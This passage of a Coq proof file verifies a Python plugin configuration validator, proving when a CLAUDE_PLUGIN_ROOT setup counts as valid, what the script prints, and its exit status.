  split; [|split; [|split]].
  - rewrite He, Hw. reflexivity.
  - rewrite He. intros e Hin. apply in_app_or in Hin as [Hin|Hin].
    + exact (proj1 (Forall_forall _ _) structure_checks_errors e Hin).
    + exact (proj1 (Forall_forall _ _) permission_checks_errors e Hin).
  - rewrite Hw. intros e Hin.
    exact (proj1 (Forall_forall _ _) env_checks_warnings e Hin).
  - apply valid_iff_no_errors.
Qed.

End Environment.

End ConfigChecks.

Module ConfigOutcome.

Import ConfigValidator.

Lemma flat_map_guarded_nil {A B} (c f : A -> bool) (g : A -> B)
      (l : list A) :
  flat_map (fun x => if c x then opt (f x) (g x) else []) l = []
  <-> forall x, In x l -> c x = true -> f x = false.
Proof.
  induction l as [|x l IH]; simpl.
  - split; [intros _ y []|reflexivity].
  - split.
    + intros H. apply app_eq_nil in H as [H1 H2].
      intros y [Heq|Hin] Hc; [subst y|now apply IH].
      rewrite Hc in H1. destruct (f x); [discriminate H1|reflexivity].
    + intros H.
      assert (Hx : (if c x then opt (f x) (g x) else []) = []).
      { destruct (c x) eqn:Hc; [|reflexivity].
        now rewrite (H x (or_introl eq_refl) Hc). }
      rewrite Hx. simpl. apply IH. intros y Hin. apply H. now right.
Qed.

Section Environment.

Variable environ : string -> option string.
Variable isdir : string -> bool.
Variable isfile : string -> bool.
Variable access_x : string -> bool.

(** X21. The configuration is valid exactly when the plugin root is not
    set (or empty), or else when the three required directories are
    directories, the three required files are files, and every hook
    script that exists as a file is executable; a hook script that does
    not exist does not count against it. *)
Theorem configuration_is_valid_iff :
  valid (validate_all environ isdir isfile access_x) = true
  <-> env_truthy (environ "CLAUDE_PLUGIN_ROOT") = false
      \/ exists root,
           environ "CLAUDE_PLUGIN_ROOT" = Some root
           /\ (forall d, In d required_dirs ->
                         isdir (path_join root d) = true)
           /\ (forall f, In f required_files ->
                         isfile (path_join root f) = true)
           /\ (forall s, In s hook_scripts ->
                         isfile (path_join root s) = true ->
                         access_x (path_join root s) = true).
Proof.
  rewrite ConfigChecks.valid_iff_no_errors.
  destruct (ConfigChecks.validate_all_lists environ isdir isfile access_x)
    as (_ & -> & _).
  unfold validate_plugin_structure, validate_permissions, env_truthy.
  destruct (environ "CLAUDE_PLUGIN_ROOT") as [root|];
    [|split; [now left|reflexivity]].
  destruct (PyStr.truthy root); cbn [negb];
    [|split; [now left|reflexivity]].
  cbv zeta.
  split.
  - intros H. apply app_eq_nil in H as [H12 H3].
    apply app_eq_nil in H12 as [H1 H2].
    right. exists root. split; [reflexivity|].
    rewrite (ConfigChecks.flat_map_opt_nil
               (fun d => negb (isdir (path_join root d)))) in H1.
    rewrite (ConfigChecks.flat_map_opt_nil
               (fun f => negb (isfile (path_join root f)))) in H2.
    rewrite (flat_map_guarded_nil
               (fun s => isfile (path_join root s))
               (fun s => negb (access_x (path_join root s)))) in H3.
    repeat split.
    + intros d Hin. now apply negb_false_iff, H1.
    + intros f Hin. now apply negb_false_iff, H2.
    + intros s Hin Hf. now apply negb_false_iff, H3.
  - intros [Hfalse|(root' & [= <-] & H1 & H2 & H3)]; [discriminate Hfalse|].
    rewrite (proj2 (ConfigChecks.flat_map_opt_nil
                      (fun d => negb (isdir (path_join root d))) _ _)),
      (proj2 (ConfigChecks.flat_map_opt_nil
                (fun f => negb (isfile (path_join root f))) _ _)),
      (proj2 (flat_map_guarded_nil
                (fun s => isfile (path_join root s))
                (fun s => negb (access_x (path_join root s))) _ _)).
    + reflexivity.
    + intros s Hin Hf. now apply negb_false_iff, H3.
    + intros f Hin. now apply negb_false_iff, H2.
    + intros d Hin. now apply negb_false_iff, H1.
Qed.

(** X22. Without the plugin root in the environment (unset or empty)
    nothing of the file system is looked at: the configuration counts as
    valid, with no error and the one warning that CLAUDE_PLUGIN_ROOT is
    not set. *)
Theorem without_plugin_root_nothing_is_checked :
  env_truthy (environ "CLAUDE_PLUGIN_ROOT") = false ->
  validate_all environ isdir isfile access_x
  = mkResults true [] []
      [mkConfigError "CLAUDE_PLUGIN_ROOT"
         "Recommended environment variable CLAUDE_PLUGIN_ROOT is not set: Required for Python imports to work correctly"
         "warning" "Set CLAUDE_PLUGIN_ROOT for optimal functionality"].
Proof.
  intros Hroot.
  unfold validate_all, all_errors, validate_environment,
    validate_plugin_structure, validate_permissions.
  cbn [flat_map REQUIRED_ENV_VARS RECOMMENDED_ENV_VARS app].
  rewrite Hroot. unfold env_truthy in Hroot.
  destruct (environ "CLAUDE_PLUGIN_ROOT") as [root|].
  - rewrite Hroot. reflexivity.
  - reflexivity.
Qed.

End Environment.

Lemma without_plugin_root_nothing_is_checked_witness :
  valid (validate_all (fun _ => None) (fun _ => false) (fun _ => false)
           (fun _ => false)) = true.
Proof.
  rewrite (without_plugin_root_nothing_is_checked (fun _ => None)
             (fun _ => false) (fun _ => false) (fun _ => false));
    reflexivity.
Defined.

End ConfigOutcome.

Module ConfigReport.

Import ConfigValidator.
Local Open Scope py_scope.

(** the texts one section of the report prints *)
Definition section_texts (title mark : string) (entries : list ConfigError)
  : list string :=
  match entries with
  | [] => []
  | _ =>
      title
      :: flat_map
           (fun error =>
              [ ("  " ++ mark ++ " " ++ setting error ++ ": "
                 ++ message error)%string;
                ("    Resolution: " ++ resolution error
                 ++ String (ascii_of_N 10) "")%string ])
           entries
  end.

(** the number of texts of a section: a title and two texts per entry *)
Definition section_size (entries : list ConfigError) : nat :=
  match entries with
  | [] => 0
  | _ => 1 + 2 * length entries
  end.

Lemma for_each_entries (mark : string) (entries : list ConfigError)
      (printed : list string) :
  Py.for_each entries
    (fun error =>
       print_stderr_text
         ("  " ++ mark ++ " " ++ setting error ++ ": " ++ message error)%string ;;
       print_stderr_text
         ("    Resolution: " ++ resolution error
          ++ String (ascii_of_N 10) "")%string)
    printed
  = (Ret tt,
     printed
     ++ flat_map
          (fun error =>
             [ ("  " ++ mark ++ " " ++ setting error ++ ": "
                ++ message error)%string;
               ("    Resolution: " ++ resolution error
                ++ String (ascii_of_N 10) "")%string ])
          entries).
Proof.
  revert printed. induction entries as [|e entries IH]; intros printed.
  - simpl. now rewrite app_nil_r.
  - cbn [Py.for_each flat_map]. unfold Py.bind at 1.
    unfold Py.bind at 1. unfold print_stderr_text at 1 2.
    cbv beta iota. rewrite IH. rewrite <- !app_assoc. reflexivity.
Qed.

Lemma print_section_run (title mark : string) (entries : list ConfigError)
      (printed : list string) :
  print_section title mark entries printed
  = (Ret tt, printed ++ section_texts title mark entries).
Proof.
  unfold print_section, section_texts.
  destruct entries as [|e entries]; cbn [Py.when].
  - unfold Py.ret. now rewrite app_nil_r.
  - unfold Py.bind at 1. unfold print_stderr_text at 1. cbv beta iota.
    rewrite for_each_entries. rewrite <- !app_assoc. reflexivity.
Qed.

Lemma section_texts_length (title mark : string)
      (entries : list ConfigError) :
  length (section_texts title mark entries) = section_size entries.
Proof.
  assert (H : forall (f g : ConfigError -> string) l,
             length (flat_map (fun x => [f x; g x]) l) = (2 * length l)%nat).
  { intros f g l. induction l as [|x l IH]; simpl; [reflexivity|].
    rewrite IH. lia. }
  unfold section_texts, section_size.
  destruct entries as [|e entries]; [reflexivity|].
  cbn [length]. rewrite H. cbn [length]. lia.
Qed.

Section Environment.

Variable environ : string -> option string.
Variable isdir : string -> bool.
Variable isfile : string -> bool.
Variable access_x : string -> bool.

(** X23. Run as a script, the validator ends with status 0 when the
    configuration is valid and with status 1 when it is not, after a
    report on the error stream: two heading texts, then for each
    non-empty list of findings a title and two texts per finding (the
    finding and its resolution). *)
Theorem script_reports_and_exits :
  let r := validate_all environ isdir isfile access_x in
  exists printed,
    run_script environ isdir isfile access_x
    = ((if valid r then 0 else 1), printed)
    /\ length printed
       = (2 + section_size (critical r) + section_size (errors r)
          + section_size (warnings r))%nat
    /\ (fst (run_script environ isdir isfile access_x) = 0
        <-> valid r = true).
Proof.
  intros r.
  assert (Hrun : exists printed,
            run_script environ isdir isfile access_x
            = ((if valid r then 0 else 1), printed)
            /\ length printed
               = (2 + section_size (critical r) + section_size (errors r)
                  + section_size (warnings r))%nat).
  { unfold run_script, script. fold r.
    unfold Py.bind at 1. unfold print_validation_report.
    unfold Py.bind at 1. unfold print_stderr_text at 1. cbv beta iota.
    unfold Py.bind at 1.
    assert (Hline :
      (if valid r
       then print_stderr_text
              ("✓ Configuration is valid" ++ String (ascii_of_N 10) "")%string
       else print_stderr_text
              ("✗ Configuration has errors"
               ++ String (ascii_of_N 10) "")%string)
      = print_stderr_text
          (if valid r
           then ("✓ Configuration is valid"
                 ++ String (ascii_of_N 10) "")%string
           else ("✗ Configuration has errors"
                 ++ String (ascii_of_N 10) "")%string))
      by (destruct (valid r); reflexivity).
    rewrite Hline. unfold print_stderr_text at 1. cbv beta iota.
    unfold Py.bind at 1. rewrite print_section_run. cbv beta iota.
    unfold Py.bind at 1. rewrite print_section_run. cbv beta iota.
    rewrite print_section_run. cbv beta iota.
    unfold Py.raise. cbn [PreToolUse.exit_status exn_cls].
    eexists. split; [reflexivity|].
    rewrite !length_app, !section_texts_length. cbn [length]. lia. }
  destruct Hrun as (printed & Hrun & Hlen).
  exists printed. split; [exact Hrun|]. split; [exact Hlen|].
  rewrite Hrun. cbn [fst].
  destruct (valid r); split; intros H; try reflexivity; discriminate H.
Qed.

End Environment.

End ConfigReport.

Module ConfigRoot.

Import ConfigValidator.

Lemma append_assoc (a b c : string) :
  ((a ++ b) ++ c)%string = (a ++ (b ++ c))%string.
Proof.
  induction a as [|x a IH]; simpl; [reflexivity|]. now rewrite IH.
Qed.

Lemma ends_with_char_app (s : string) (c : ascii) :
  ends_with_char (s ++ String c "") c = true.
Proof.
  induction s as [|x s IH]; simpl.
  - apply Ascii.eqb_refl.
  - destruct (s ++ String c "")%string eqn:Hs; [|exact IH].
    destruct s; discriminate Hs.
Qed.

Lemma truthy_app (s t : string) :
  PyStr.truthy s = true -> PyStr.truthy (s ++ t) = true.
Proof.
  destruct s; [discriminate|reflexivity].
Qed.

(** Joining a relative name to a root gives the same path with and
    without a slash at the end of the root. *)
Lemma path_join_trailing_slash (root name : string) :
  PyStr.truthy root = true ->
  ends_with_char root "/" = false ->
  PyStr.startswith name "/" = false ->
  path_join (root ++ "/") name = path_join root name.
Proof.
  intros Hroot Hends Hrel. unfold path_join.
  rewrite Hrel, Hroot, Hends, (truthy_app root "/" Hroot),
    ends_with_char_app.
  cbn [negb orb]. apply append_assoc.
Qed.

(** X24. A slash at the end of CLAUDE_PLUGIN_ROOT makes no difference:
    with the root "r" and with the root "r/" the validator looks at the
    same directories and files, and returns the same result. *)
Theorem trailing_slash_of_the_root_is_immaterial
        (environ environ' : string -> option string)
        (isdir isfile access_x : string -> bool) (root : string) :
  root <> ""%string ->
  ends_with_char root "/" = false ->
  environ "CLAUDE_PLUGIN_ROOT"%string = Some root ->
  environ' "CLAUDE_PLUGIN_ROOT"%string = Some (root ++ "/")%string ->
  validate_all environ' isdir isfile access_x
  = validate_all environ isdir isfile access_x.
Proof.
  intros Hne Hends Henv Henv'.
  assert (Hroot : PyStr.truthy root = true)
    by (destruct root; [contradiction|reflexivity]).
  assert (Hall : all_errors environ' isdir isfile access_x
                 = all_errors environ isdir isfile access_x).
  { unfold all_errors, validate_environment, validate_plugin_structure,
      validate_permissions.
    cbn [flat_map REQUIRED_ENV_VARS RECOMMENDED_ENV_VARS required_dirs
           required_files hook_scripts app].
    rewrite Henv, Henv'. unfold env_truthy.
    rewrite Hroot, (truthy_app root "/" Hroot). cbv zeta.
    rewrite !(path_join_trailing_slash root) by (assumption || reflexivity).
    reflexivity. }
  unfold validate_all. now rewrite Hall.
Qed.

Lemma trailing_slash_of_the_root_is_immaterial_witness :
  validate_all (fun _ => Some "/opt/hookify/"%string)
    (fun _ => true) (fun _ => true) (fun _ => false)
  = validate_all (fun _ => Some "/opt/hookify"%string)
      (fun _ => true) (fun _ => true) (fun _ => false).
Proof.
  apply (trailing_slash_of_the_root_is_immaterial
           (fun _ => Some "/opt/hookify"%string)
           (fun _ => Some "/opt/hookify/"%string)
           (fun _ => true) (fun _ => true) (fun _ => false)
           "/opt/hookify");
    try reflexivity.
  discriminate.
Defined.

End ConfigRoot.
